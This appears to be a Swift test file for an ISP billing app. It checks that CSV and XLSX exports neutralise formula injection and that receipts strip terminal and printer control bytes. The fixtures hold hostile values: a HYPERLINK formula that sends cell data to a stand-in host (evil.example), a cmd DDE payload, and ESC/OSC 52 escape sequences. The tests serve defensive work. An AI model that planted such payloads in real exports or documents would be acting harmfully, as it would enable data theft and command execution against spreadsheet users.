import Foundation
import XCTest
import CSV
@testable import FiberNodeReports
import FiberNodeStore
import FiberNodeDomain

/// Issue 12, item 2: CSV formula injection, and an export that still re-imports.
final class FormulaInjectionTests: XCTestCase {
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")"

    func fixture() throws -> (AppDatabase, StoreContext, Actor) {
        let clock = ManualClock(ISO8601DateFormatter().date(from: "2026-03-12T03:00:00Z")!)
        let ctx = StoreContext(clock: clock, random: RandomSource(SplitMix64(seed: 3)), passwordCost: .testing)
        let db = try AppDatabase.inMemory()
        try Seeder.demo(into: db, context: ctx)
        let admin = try db.login(username: "superadmin", password: "Admin123!", context: ctx).actor
        let pkg = try db.packages().first { $0.name == "Paket 20 Mbps" }!.id
        for (i, name) in [hostile, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"].enumerated() {
            try db.createCustomer(CustomerInput(name: name, phone: "62812999900\(10 + i)", packageId: pkg, billingDate: "9",
                                                discount: "0"), actor: admin, context: ctx)
        }
        return (db, ctx, admin)
    }

    func tmp(_ name: String) -> String {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("fn-fi-\(UUID().uuidString)")
        try? FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        return dir.appendingPathComponent(name).path
    }

    func rows(_ path: String) throws -> [[String]] {
        let reader = try CSVReader(string: try String(contentsOfFile: path, encoding: .utf8))
        var out: [[String]] = []
        while let r = reader.next() { out.append(r) }
        return out
    }

    func testGuardRules() {
        XCTAssertEqual(CSVFile.guardFormula("=1+1"), "'=1+1")
        XCTAssertEqual(CSVFile.guardFormula("@x"), "'@x")
        XCTAssertEqual(CSVFile.guardFormula("+x"), "'+x")
        XCTAssertEqual(CSVFile.guardFormula("-x"), "'-x")
        XCTAssertEqual(CSVFile.guardFormula("\tx"), "'\tx")
        XCTAssertEqual(CSVFile.guardFormula("\rx"), "'\rx")
        XCTAssertEqual(CSVFile.guardFormula("-100"), "-100")      // numbers stay numbers
        XCTAssertEqual(CSVFile.guardFormula("+6281234"), "+6281234")
        XCTAssertEqual(CSVFile.guardFormula("12.5"), "12.5")
        XCTAssertEqual(CSVFile.guardFormula("Ahmad"), "Ahmad")
    }

    func testCustomerAndInvoiceCSVsGuardFormulasAndTheCustomerCSVReimports() throws {
        let (db, ctx, admin) = try fixture()
        let path = tmp("pelanggan.csv")
        try CustomerExporter.export(db: db, actor: admin, format: .csv, to: path)
        let r = try rows(path)
        let names = r.dropFirst().map { $0[0] }
        XCTAssertTrue(names.contains("'" + hostile), "\(names)")
        XCTAssertTrue(names.contains("'-2+3"))
        XCTAssertFalse(names.contains { ["=", "+", "-", "@"].contains($0.first.map(String.init) ?? "") }, "\(names)")
        // money columns stay plain numbers
        let price = r[0].firstIndex(of: "paket_tarif")!
        XCTAssertTrue(r.dropFirst().allSatisfy { Int($0[price]) != nil })

        // re-import into a database without those customers: the guard is removed again
        try db.write { d in try d.execute(sql: "DELETE FROM customers") }
        let report = try db.importCustomers(csv: try String(contentsOfFile: path, encoding: .utf8), dryRun: false,
                                            actor: admin, context: ctx)
        XCTAssertEqual(report.rejected, [])
        let back = try db.read { d in try String.fetchAll(d, sql: "SELECT name FROM customers") }
        XCTAssertTrue(back.contains(hostile))
        XCTAssertTrue(back.contains("-2+3"))

        // invoices: the customer column is guarded too
        try db.generateInvoices(period: Period("2026-04")!, actor: admin, context: ctx)
        let inv = tmp("rekap.csv")
        try InvoiceExporter.export(db: db, actor: admin, from: LocalDate("2026-01-01")!, to: LocalDate("2026-12-31")!,
                                   format: .csv, to: inv, timeZone: TimeZone(identifier: "Asia/Jakarta")!)
        let customers = try rows(inv).dropFirst().filter { $0.count > 2 && $0[0].hasPrefix("INV-") }.map { $0[2] }
        XCTAssertTrue(customers.contains("'" + hostile), "\(customers)")
        XCTAssertFalse(customers.contains(hostile))
    }

    func testXLSXKeepsTheNameAsAString() throws {
        let (db, _, admin) = try fixture()
        let path = tmp("pelanggan.xlsx")
        try CustomerExporter.export(db: db, actor: admin, format: .xlsx, to: path)
        let py = "/usr/bin/python3"
        guard FileManager.default.isExecutableFile(atPath: py) else { return }
        let p = Process()
        p.executableURL = URL(fileURLWithPath: py)
        p.arguments = ["-c", """
            import sys, zipfile
            z = zipfile.ZipFile(sys.argv[1])
            sheet = z.read('xl/worksheets/sheet1.xml').decode()
            names = z.namelist()
            shared = z.read('xl/sharedStrings.xml').decode() if 'xl/sharedStrings.xml' in names else ''
            assert '<f>' not in sheet, 'a formula cell'
            assert 'HYPERLINK' in shared or 't="inlineStr"' in sheet and 'HYPERLINK' in sheet, 'name not stored as a string'
            """, path]
        try p.run(); p.waitUntilExit()
        XCTAssertEqual(p.terminationStatus, 0)
    }
}

/// Issue 12, item 3: a receipt carries no control byte (ESC/POS, ESC sequences) and keeps its width.
final class ReceiptControlTests: XCTestCase {
    func testReceiptTextHasNoControlBytesAndKeepsItsWidth() throws {
        let clock = ManualClock(ISO8601DateFormatter().date(from: "2026-03-12T03:00:00Z")!)
        let ctx = StoreContext(clock: clock, random: RandomSource(SplitMix64(seed: 3)), passwordCost: .testing)
        let db = try AppDatabase.inMemory()
        try Seeder.demo(into: db, context: ctx)
        let admin = try db.login(username: "superadmin", password: "Admin123!", context: ctx).actor
        try db.write { d in
            try d.execute(sql: "UPDATE customers SET name = ? WHERE name = 'Ahmad Fauzi'",
                          arguments: ["Ahmad\u{1B}@\u{1D}V\u{01}\u{1B}]52;c;eA==\u{07}\tF"])
        }
        try db.generateInvoices(period: Period("2026-04")!, actor: admin, context: ctx)
        let inv = try db.invoices(actor: admin, filter: InvoiceFilter()).first { $0.customerName.hasPrefix("Ahmad") }!
        for w in [32, 48] {
            let text = Receipt.text(inv, options: ReceiptOptions(settings: try db.settings()), width: w)
            XCTAssertFalse(text.unicodeScalars.contains { $0 != "\n" && ($0.value < 0x20 || (0x7F...0x9F).contains($0.value)) })
            XCTAssertTrue(text.split(separator: "\n").allSatisfy { $0.count <= w })
            XCTAssertTrue(text.contains("Ahmad@V]52;c;eA== F"), text)
        }
    }
}
